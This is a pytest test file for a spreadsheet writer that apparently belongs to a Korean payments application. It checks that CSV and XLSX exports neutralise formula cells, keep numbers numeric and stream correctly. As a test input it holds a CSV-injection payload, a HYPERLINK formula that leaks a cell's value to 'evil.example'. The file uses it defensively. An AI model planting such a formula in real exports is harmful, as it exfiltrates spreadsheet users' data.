"""The one spreadsheet writer: formula cells neutralised (OWASP "CSV Injection"), numbers kept
as numbers, Korean headers, CSV with a byte-order mark for Excel, XLSX in write-only mode,
and streaming."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from baesang.core import spreadsheets
from baesang.core.spreadsheets import Column, SpreadsheetError

COLUMNS = [Column("holder", "예금주"), Column("amount", "금액"), Column("paid_on", "지급일"), Column("note", "비고")]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"확인")'
DANGEROUS = [HYPERLINK, "+82-10-1234", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"]


def rows():
    return [
        {"holder": HYPERLINK, "amount": 100_000_000, "paid_on": date(2023, 3, 31), "note": "정상"},
        {"holder": "가상갑돌", "amount": -5, "paid_on": None, "note": "-5"},
        {"holder": "@SUM(A1:A9)", "amount": Decimal("12.5"), "paid_on": date(2024, 1, 2), "note": "+1"},
        {"holder": "김,=1+1", "amount": 0, "paid_on": None, "note": 'quote " inside'},
    ]


def read_csv(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("text", DANGEROUS)
def test_each_formula_prefix_is_neutralised(text):
    # OWASP: cells beginning with = + - @ tab or carriage return get a leading apostrophe.
    assert spreadsheets.cell_value(text) == "'" + text


@pytest.mark.parametrize("text", ["가상갑돌", "Kim", "1,000", "'already", " =space first", ""])
def test_ordinary_text_is_left_alone(text):
    assert spreadsheets.cell_value(text) == text


def test_numbers_written_as_numbers_stay_numbers():
    assert spreadsheets.cell_value(-5) == -5
    assert spreadsheets.cell_value(Decimal("-1.5")) == Decimal("-1.5")
    assert spreadsheets.cell_value("-5") == "'-5"  # the same characters as text are neutralised


def test_floats_and_unknown_types_are_refused():
    with pytest.raises(SpreadsheetError) as info:
        spreadsheets.cell_value(0.1)
    assert info.value.code == spreadsheets.ERROR_FLOAT
    with pytest.raises(SpreadsheetError) as info:
        spreadsheets.cell_value(object())
    assert info.value.code == spreadsheets.ERROR_TYPE


def test_csv_has_a_bom_korean_headers_crlf_and_neutralised_text():
    text = spreadsheets.csv_text(COLUMNS, rows())
    assert text.startswith("\ufeff\"예금주\",\"금액\",\"지급일\",\"비고\"\r\n")
    table = read_csv(text)
    assert table[0] == ["예금주", "금액", "지급일", "비고"]
    assert table[1] == ["'" + HYPERLINK, "100000000", "2023-03-31", "정상"]
    assert table[2] == ["가상갑돌", "-5", "", "'-5"]
    assert table[3][0] == "'@SUM(A1:A9)" and table[3][1] == "12.5" and table[3][3] == "'+1"
    assert table[4] == ["김,=1+1", "0", "", 'quote " inside']
    # Numbers are unquoted (a spreadsheet reads them as numbers), text is quoted.
    lines = text[1:].split("\r\n")
    assert lines[2] == '"가상갑돌",-5,"","\'-5"'


def test_csv_is_a_generator_of_lines_for_streaming():
    produced = []

    def source():
        for number in range(3):
            produced.append(number)
            yield {"holder": f"=H{number}", "amount": number, "paid_on": None, "note": ""}

    lines = spreadsheets.csv_lines(COLUMNS, source())
    assert produced == []  # nothing is read before the first line is asked for
    header = next(lines)
    assert header.startswith("\ufeff") and produced == []
    first = next(lines)
    assert first == '"\'=H0",0,"",""\r\n' and produced == [0]
    assert len(list(lines)) == 2


def test_write_csv_counts_rows_and_names_a_missing_field():
    out = io.StringIO()
    assert spreadsheets.write_csv(COLUMNS, rows(), out) == 4
    assert spreadsheets.write_csv(COLUMNS, [], io.StringIO()) == 0
    with pytest.raises(SpreadsheetError) as info:
        spreadsheets.csv_text(COLUMNS, [{"holder": "a", "amount": 1, "paid_on": None}])
    assert "row 1" in info.value.message and "note" in info.value.message


def test_xlsx_keeps_numbers_dates_and_never_writes_a_formula():
    data = spreadsheets.xlsx_bytes(COLUMNS, rows(), title="지급 내역")
    book = load_workbook(io.BytesIO(data))
    sheet = book["지급 내역"]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == ["예금주", "금액", "지급일", "비고"]
    assert values[1][0] == "'" + HYPERLINK and values[1][1] == 100_000_000
    assert values[1][2].date() == date(2023, 3, 31)
    assert values[2][1] == -5 and values[2][3] == "'-5"
    assert values[3][1] == Decimal("12.5")  # a Decimal is a number cell
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula"
    assert sheet["B3"].data_type == "n" and sheet["A2"].data_type == "s"


def test_xlsx_replaces_control_characters_it_cannot_hold():
    data = spreadsheets.xlsx_bytes([Column("note", "비고")], [{"note": "a\x01b"}])
    assert load_workbook(io.BytesIO(data)).active["A2"].value == "a\ufffdb"


@given(st.text(max_size=20))
def test_no_text_cell_can_start_a_formula(text):
    written = spreadsheets.cell_value(text)
    assert not written.startswith(spreadsheets.FORMULA_PREFIXES)
    # Nothing is lost: the original is the written text, or it without the apostrophe.
    assert written in (text, "'" + text)


def test_responses_stream_csv_and_send_xlsx():
    response = spreadsheets.csv_response("지급.csv", COLUMNS, rows())
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body == spreadsheets.csv_text(COLUMNS, rows())
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    response = spreadsheets.xlsx_response("지급.xlsx", COLUMNS, rows())
    data = b"".join(response.streaming_content)
    assert load_workbook(io.BytesIO(data)).active["A1"].value == "예금주"
